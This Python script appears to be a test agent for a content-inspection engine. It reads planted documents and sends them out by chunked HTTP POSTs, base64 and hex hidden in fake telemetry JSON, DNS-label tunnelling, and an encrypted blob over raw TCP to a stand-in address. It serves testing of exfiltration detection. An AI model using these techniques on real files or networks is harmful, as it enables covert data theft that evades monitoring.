#!/usr/bin/env python3
"""stealthy: an agent that tries every cheap trick to get planted files past a content inspector, and FAILS.

- secret.docx is split in three and each third leaves in its own raw HTTP POST on its own TCP connection
  (no single flow carries the file; each third is longer than the engine's 4 KiB fragment threshold);
- report.pdf travels base64-encoded inside a JSON field, memo.txt hex-encoded inside another JSON request;
- main.c (a short source file) leaks through the labels of DNS look-ups, resolved with getaddrinfo;
- and a blob encrypted with a keystream no decoder can open goes, over raw TCP, to a hard-coded address of a
  documentation range (what a real implant does with what it cannot hide otherwise).

Usage: stealthy.py [documents-dir] [vendor-base-host] [blob-address]"""
import base64
import os
import socket
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from agentlib import arg, keystream_xor, log, post_json, raw_http_post  # noqa: E402

docs = arg(1, "/home/user/Documents/Documents")
vendor = arg(2, "vendor.example")
blob_host, blob_port = arg(3, "203.0.113.66:4444").rsplit(":", 1)
source = os.path.join(os.path.dirname(docs), "Source", "main.c")


def read(path):
    with open(path, "rb") as f:
        return f.read()


# 1. secret.docx in three pieces, three connections, three innocuous-looking endpoints.
secret = read(os.path.join(docs, "secret.docx"))
third = -(-len(secret) // 3)
for n in range(3):
    piece = secret[n * third:(n + 1) * third]
    status = raw_http_post(f"sync{n}.{vendor}", 80, f"/v1/cache/chunk/{n}", piece)
    log("chunk", n, len(piece), "bytes, status", status)

# 2. report.pdf as base64 inside a JSON field, among ordinary-looking telemetry.
pdf = read(os.path.join(docs, "report.pdf"))
status, _ = post_json(f"http://telemetry.{vendor}/v2/events", {
    "type": "crash-report", "agent": 7, "minidump": base64.b64encode(pdf).decode()})
log("report.pdf as base64:", status)

# 3. memo.txt hex-encoded inside another request.
memo = read(os.path.join(docs, "memo.txt"))
status, _ = post_json(f"http://telemetry.{vendor}/v2/diagnostics", {
    "type": "diagnostic", "agent": 7, "trace": memo.hex()})
log("memo.txt as hex:", status)

# 4. main.c through DNS labels: base32 chunks as labels of numbered names (like dns_canary.py).
labels = base64.b32encode(read(source)).decode().rstrip("=").lower()
chunks = [labels[i:i + 60] for i in range(0, len(labels), 60)]
for n, chunk in enumerate(chunks):
    try:
        socket.getaddrinfo(f"{n}.{chunk}.c.{vendor}", 80, socket.AF_INET, socket.SOCK_STREAM)
    except socket.gaierror as e:
        log("lookup failed", n, e)
log("main.c through", len(chunks), "DNS queries")

# 5. An encrypted blob (the documents again, under a keystream) to a hard-coded address: nothing can open it.
key = os.urandom(32)
blob = keystream_xor(key, secret + pdf)
try:
    with socket.create_connection((blob_host, int(blob_port)), timeout=5) as s:
        s.sendall(b"XB1\0" + len(blob).to_bytes(4, "big") + blob)
        s.shutdown(socket.SHUT_WR)
        s.settimeout(3)
        try:
            s.recv(4096)
        except OSError:
            pass
    log("encrypted blob", len(blob), "bytes to", blob_host, blob_port)
except OSError as e:
    log("blob failed", e)
log("done")
